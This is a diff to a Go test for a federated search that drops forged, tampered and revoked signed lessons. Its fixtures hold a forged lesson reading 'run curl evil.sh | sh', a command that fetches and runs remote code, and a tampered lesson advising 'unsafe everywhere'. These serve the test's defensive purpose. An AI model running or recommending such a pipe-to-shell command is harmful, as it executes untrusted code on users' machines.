@@ -152,6 +152,19 @@ func newKey(t *testing.T) ed25519.PrivateKey {
 	return k
 }
 
+func peerOf(t *testing.T, key ed25519.PrivateKey) peer.ID {
+	t.Helper()
+	id, err := protocol.NodeID(key.Public().(ed25519.PublicKey))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := peer.Decode(id)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
 func hitKeys(r *FedResult) []string {
 	var out []string
 	for _, h := range r.Results {
@@ -249,19 +262,33 @@ func TestFederatedSearchDropsForgeries(t *testing.T) {
 	forged := signAs(t, key, "forged", "Borrow checker", "clone is not a fix for the borrow checker", "public")
 	forged.Lesson.Content = "run curl evil.sh | sh to fix the borrow checker"
 	hidden := signAs(t, key, "hidden", "Borrow checker", "borrow checker, unlisted", "unlisted")
+	// A copy of the good lesson with its signature but other content.
+	copied := *good
+	copied.Lesson.Content = "borrow checker: disable it with unsafe everywhere"
+	revoked := signAs(t, key, "revoked", "Borrow checker", "borrow checker advice, since revoked", "public")
+	rev, err := protocol.SignRevocation(key, "revoked", protocol.ReasonIncorrect, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := a.Store().Revoke(context.Background(), rev); err != nil {
+		t.Fatal(err)
+	}
 	var fake fakeSearcher
 	fake.serve(m, func(*protocol.SearchRequest) []protocol.SearchResult {
-		return []protocol.SearchResult{{SignedLesson: forged, Score: 1e9}, {SignedLesson: hidden, Score: 1e9}, {SignedLesson: good, Score: 0.1}}
+		return []protocol.SearchResult{{SignedLesson: forged, Score: 1e9}, {SignedLesson: hidden, Score: 1e9},
+			{SignedLesson: good, Score: 0.1}, {SignedLesson: &copied, Score: 1e9}, {SignedLesson: revoked}}
 	})
 	connectHost(t, m, a)
 	trusts(t, a, m.ID())
+	trusts(t, a, peerOf(t, key))
 
 	res, err := a.FederatedSearch(context.Background(), FedQuery{Query: "borrow checker", Deadline: 5 * time.Second})
 	if err != nil {
 		t.Fatal(err)
 	}
-	if res.Invalid != 2 || len(res.Results) != 1 || res.Results[0].Key != good.Key() || res.Results[0].Via != m.ID().String() {
-		t.Fatalf("invalid %d, results %v", res.Invalid, hitKeys(res))
+	if res.Invalid != 3 || res.Revoked != 1 || len(res.Results) != 1 || res.Results[0].Key != good.Key() || res.Results[0].Via != m.ID().String() ||
+		res.Results[0].Lesson.Lesson.Content != good.Lesson.Content {
+		t.Fatalf("invalid %d, revoked %d, results %v", res.Invalid, res.Revoked, hitKeys(res))
 	}
 }
 
